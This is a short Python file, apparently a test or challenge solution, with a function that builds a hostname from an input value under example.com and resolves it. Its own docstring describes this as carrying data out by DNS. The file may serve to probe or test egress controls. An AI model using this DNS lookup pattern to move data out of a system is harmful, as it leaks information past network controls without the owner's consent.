"""Asks for a name, which carries data out by DNS."""

import socket


def solve(outside):
    got = []
    for name in (f"{outside['mark']}.example.com", "localhost"):
        try:
            got.append(socket.getaddrinfo(name, 80)[0][4][0])
        except OSError:
            pass
    return got
